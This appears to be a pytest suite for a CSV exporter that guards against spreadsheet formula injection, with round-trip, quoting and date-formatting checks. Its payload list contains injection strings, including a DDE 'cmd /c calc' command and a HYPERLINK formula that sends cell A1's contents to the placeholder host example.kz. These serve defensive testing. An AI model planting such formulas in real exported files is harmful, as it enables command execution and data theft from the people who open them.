"""CSV: no cell is a formula, whatever a spreadsheet splits at, and the text that was comes back."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wadjet import ledger, registers
from wadjet.registers import acts, grounds, incidents, inventory, publications, recipients, tables

PAYLOADS = [
    "=1+1",
    '=cmd|"/c calc"!A1',
    "+7 701 123 45 67",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "\u3000=1",
    "\ufeff=1",
    "\u200b=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹣1",
    "﹢1",
    "﹦1",
    "﹫SUM",
    "−1",
    "|calc",
    "a;=1",
    'a;"=1',
    "a,=1",
    "a\t=1",
    "a\n=1",
    "a|=1",
    'say "=1"',
    '"=1',
    "'=1",
    "''=1",
    "'",
    "it's",
    'DDE ("cmd";"/C calc";"!A0")',
    ";;;=1",
    '=HYPERLINK("http://example.kz?x="&A1,"click")',
]
STARTS = re.compile(r"[\s\ufeff\u200b]*[=+\-@|＝＋－﹣−＠﹫﹢﹦]")


def written(text: str) -> str:
    return "".join(tables.csv_lines([{"id": 1, "name": text}]))


def cells_of(document: str) -> list[str]:
    """Every cell that a program could make of it: read properly, and split at what it may take for a separator."""
    cells = []
    for delimiter in ",;\t|":
        cells += [cell for row in csv.reader(io.StringIO(document, newline=""), delimiter=delimiter) for cell in row]
    for piece in re.split(r'[,;\t\r\n|"]', document):
        cells.append(piece)
    return cells


@pytest.mark.parametrize("text", PAYLOADS, ids=ascii)
def test_no_payload_begins_a_cell(text):
    assert [cell for cell in cells_of(written(text)) if STARTS.match(cell)] == []


@pytest.mark.parametrize("text", PAYLOADS, ids=ascii)
def test_payload_comes_back(text):
    _, (_, cell) = csv.reader(io.StringIO(written(text), newline=""))

    assert tables.content(cell) == text


@given(st.text(alphabet=st.one_of(st.sampled_from("=+-@|\t\r\n '\",;＝＋－＠\ufeffaЖ1"), st.characters(codec="utf-8"))))
def test_any_text_is_harmless_and_comes_back(text):
    document = written(text)
    _, (_, cell) = csv.reader(io.StringIO(document, newline=""))

    assert tables.content(cell) == text
    assert [cell for cell in cells_of(document) if STARTS.match(cell)] == []


def test_plain_text_stays_as_it_is():
    for text in (
        "Әйгерім Қасымова",
        "out 12-5/7",
        "https://example.kz/a?b=c",
        "2026-11-24T06:14:48.123Z",
        "a = b",
        "1-2",
    ):
        assert tables.harmless(text) == text


def test_cells_are_quoted_and_lines_end_as_the_norm_has_it():
    document = "".join(
        tables.csv_lines([{"id": 1, "over": True, "until": None}, {"id": 2, "over": False, "until": "x"}])
    )

    assert document == '"id","over","until"\r\n"1","yes",""\r\n"2","no","x"\r\n'
    assert "".join(tables.csv_lines([])) == ""


@pytest.mark.parametrize(
    ("name", "value", "told"),
    [
        ("at", "2026-11-23T20:14:48.000Z", "24.11.2026 01:14"),
        ("received_at", None, ""),
        ("due_on", "2026-11-24", "24.11.2026"),
        ("since", "2026-11-24", "24.11.2026"),
        ("since", "2026-11-23T20:14:48.000Z", "24.11.2026 01:14"),
        ("fields", "last_name phone", ("last name", "telephone")),
        ("fields", "last_name iin", "last_name iin"),
        ("basis", "law_or_treaty", ("law or treaty",)),
        ("name", "consent", "consent"),
        ("network", True, True),
    ],
)
def test_values_are_written_for_people(name, value, told):
    assert tables.on_paper(name, value) == told


def test_every_word_of_an_entry_has_its_word_on_paper():
    words = {*ledger.ACTS, *acts.ACTS, *registers.FIELDS, *grounds.DESTRUCTION, *grounds.BASES, *incidents.KINDS}
    words |= {*inventory.MEASURES, *publications.METHODS, *recipients.NOTICES, "recipient", "staff"}

    assert words - tables.WORDS.keys() == set()
